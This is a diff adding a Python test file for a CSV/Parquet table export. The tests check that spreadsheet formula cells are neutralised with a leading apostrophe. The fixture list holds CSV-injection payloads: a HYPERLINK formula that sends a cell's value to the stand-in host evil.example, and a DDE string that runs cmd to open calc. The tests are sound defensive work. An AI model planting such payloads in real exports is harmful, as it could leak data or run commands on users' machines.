@@ -1,0 +1,64 @@
+"""`workbench export`: tidy tables to CSV (formula cells neutralised) and Parquet (as is)."""
+
+from __future__ import annotations
+
+import csv
+
+import pandas as pd
+import pytest
+
+from workbench.export_tables import annotation_tables, export_tables, neutralise, neutralise_cell
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]
+
+
+def test_neutralise_cells():
+    for text in FORMULAS:
+        assert neutralise_cell(text) == "'" + text
+    for safe in ("Kyiv", " =1 inside", "", "'already"):
+        assert neutralise_cell(safe) == safe
+    assert neutralise_cell(-3) == -3 and neutralise_cell(None) is None
+    df = pd.DataFrame({"t": pd.array([*FORMULAS, "ok", None], dtype="string"),
+                       "n": range(-4, 4), "=col": 1})
+    out = neutralise(df)
+    assert out["t"].tolist()[:6] == ["'" + f for f in FORMULAS]
+    assert out["t"].tolist()[6] == "ok" and pd.isna(out["t"].tolist()[7])
+    assert out["n"].tolist() == list(range(-4, 4))  # numbers are not formulas
+    assert list(out.columns) == ["t", "n", "'=col"]
+    assert df["t"].iloc[0] == FORMULAS[0]  # the input is not changed
+
+
+def test_export_sample_tables(tmp_path, sample_annotations):
+    ann = sample_annotations
+    arts = ann.articles.copy()
+    arts.loc[0, "title"] = FORMULAS[0]  # a hostile headline from a scraped page
+    ann_like = type("A", (), {"articles": arts, "mentions": ann.mentions,
+                              "quotes": ann.quotes, "dates": ann.dates})()
+    tables = annotation_tables(ann_like, lexicon="")
+    assert "raw_text" not in tables["articles"].columns
+    written = export_tables(tables, tmp_path / "out")
+    names = sorted(p.name for p in written)
+    assert names == sorted(f"{t}.{ext}" for t in ("articles", "mentions", "quotes", "dates",
+                                                  "lexicon_matches")
+                           for ext in ("csv", "parquet"))
+    with open(tmp_path / "out" / "articles.csv", encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert rows[0]["title"] == "'" + FORMULAS[0]
+    assert len(rows) == len(arts)
+    # Every text cell of every CSV is safe to open in a spreadsheet.
+    for path in (tmp_path / "out").glob("*.csv"):
+        with open(path, encoding="utf-8-sig", newline="") as fh:
+            for row in csv.reader(fh):
+                assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), path
+    back = pd.read_parquet(tmp_path / "out" / "articles.parquet")
+    assert back["title"].iloc[0] == FORMULAS[0]  # Parquet keeps the value
+    mentions = pd.read_parquet(tmp_path / "out" / "mentions.parquet")
+    assert len(mentions) == len(ann.mentions)
+    lex = pd.read_csv(tmp_path / "out" / "lexicon_matches.csv", encoding="utf-8-sig")
+    assert {"frame", "term", "where"} <= set(lex.columns) and len(lex) > 0
+
+
+def test_bad_format(tmp_path):
+    with pytest.raises(ValueError, match="formats must be among"):
+        export_tables({"x": pd.DataFrame({"a": [1]})}, tmp_path, formats=["xlsx"])
